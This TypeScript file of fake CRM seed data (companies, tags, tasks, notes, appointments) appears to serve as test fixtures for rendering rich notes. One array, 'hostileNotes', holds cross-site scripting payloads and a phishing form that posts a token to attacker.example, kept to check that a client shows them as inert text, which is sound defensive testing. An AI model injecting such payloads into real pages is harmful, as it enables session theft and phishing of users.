const lines = (text: string) =>
  text
    .trim()
    .split('\n')
    .map((line) => line.trim());

export const companies = lines(`
  Northwind Roofing
  Bluebell Dental Care
  Hartley & Sons Joinery
  Brightwater Solar
  Copperfield Estates
  The Corner Bakery
  Peak Physio
  Lumen Architects
  Meadow Vets
  Foxglove Interiors
  Ironbridge Fitness
  Silverline Logistics
  Orchard Accountancy
  Tideway Marine
  Granite Worktops
  Willow & Fern Florists
  Kestrel Security
  Harbour Lettings
  Summit Windows
  Pinewood Nurseries`);

export const companyKinds = ['', ' Ltd', ' Group', ' LLC', ' GmbH', ' & Co'];

export const tagNames = lines(`
  vip
  lead
  customer
  newsletter
  website
  referral
  trade
  residential
  commercial
  do-not-mail
  spring campaign
  autumn campaign
  quote sent
  quote accepted
  needs survey
  follow-up
  overdue invoice
  webinar
  event 2025
  partner
  supplier
  churn risk
  reactivated
  español`);

export const sources = ['website form', 'facebook ads', 'referral', 'phone call', 'trade show', 'google ads', 'import'];

export const taskTitles = lines(`
  Send the revised quote
  Call back about the survey date
  Chase the signed contract
  Check the deposit has arrived
  Book the site visit
  Email the brochure
  Confirm the colour samples
  Ask for a review
  Prepare the renewal offer
  Introduce to the installation team
  Update the billing address
  Agree the payment plan
  Invite to the open day
  Return the missed call
  Review the floor plan`);

export const taskBodies = lines(`
  They asked for the price with and without fitting.
  Best reached after five; works nights on Thursdays.
  Contract went out by post and by e-mail. Nothing back so far.
  Mention the discount that ends this month.
  See the note from the last call.`);

export const shortNotes = lines(`
  Left a voicemail.
  Prefers e-mail over phone.
  Will decide after the holidays.
  Met at the trade show, very interested in the premium range.
  Dog in the garden: ring before coming.
  Paid the deposit by bank transfer.
  Asked us not to call at work.
  Recommended by a neighbour.
  Wants everything in writing.`);

export const longNote = `Long call about the extension. They have planning permission for the rear, not yet for the side, and the neighbour has objected to the height of the wall. The architect expects an answer within six weeks; until then nothing can be ordered that depends on the final width.

Budget is fixed at the figure we discussed in spring, but there is some room if the work is done in one go. They would rather wait for the oak than take the ash that is in stock, and they do not want the fitting to overlap with school holidays.

Agreed next steps: we send the drawings with both variants, they check with the architect, and we speak again when the decision is in. If permission for the side is refused, variant B stands and we can start at once. Access is through the back lane; the key is with number 14. Parking needs a permit, which we apply for ourselves. Please read the earlier notes about the drains before anybody digs.`;

/** In the format of HighLevel's editor. */
export const richNotes = [
  '<p>Spoke to the <strong>office manager</strong>: happy with the service, unhappy with the <em>invoice layout</em>.</p><p>She will send an example.</p>',
  '<p>Agreed on the call:</p><ul><li>survey on a weekday morning</li><li>two quotes, <u>with</u> and without fitting</li><li>answer within a week</li></ul>',
  '<p>See <a href="https://example.com/quotes/1042" target="_blank" rel="noopener">the quote</a> and the drawings from last year.</p>',
  '<h3>Site visit</h3><p>Loft hatch is too small for the unit.&nbsp;Needs the <span style="color:#b42318">wide</span> ladder.</p><ol><li>measure</li><li>photograph</li></ol>',
  '<blockquote>We have never had such a quick answer.</blockquote><p>Ask whether we may quote her on the website.</p>',
];

/** Texts that a stranger could enter into a web form. A client must show them as inert text. */
export const hostileNotes = [
  '<p>Hello<script>globalThis.__pwned = "note script"</script> there</p>',
  '<p>Photo <img src="x" onerror="globalThis.__pwned = \'note image\'" alt="kitchen"></p>',
  '<p><a href="javascript:globalThis.__pwned=\'note link\'">Open the plan</a></p>',
  '<svg onload="globalThis.__pwned=\'note svg\'"></svg><iframe src="javascript:globalThis.__pwned=\'note frame\'"></iframe><p>Plans attached</p>',
  '<form action="https://attacker.example/steal"><input name="token"><button>Sign in again</button></form><style>body{display:none}</style>',
];

export const appointmentTitles = lines(`
  Site survey
  Discovery call
  Design review
  Quote walkthrough
  Installation day
  Annual check
  Follow-up call
  Showroom visit`);

export const appointmentNotes = lines(`
  Bring the samples.
  Gate code 4821.
  Video link in the confirmation e-mail.
  Two decision makers will be there.`);
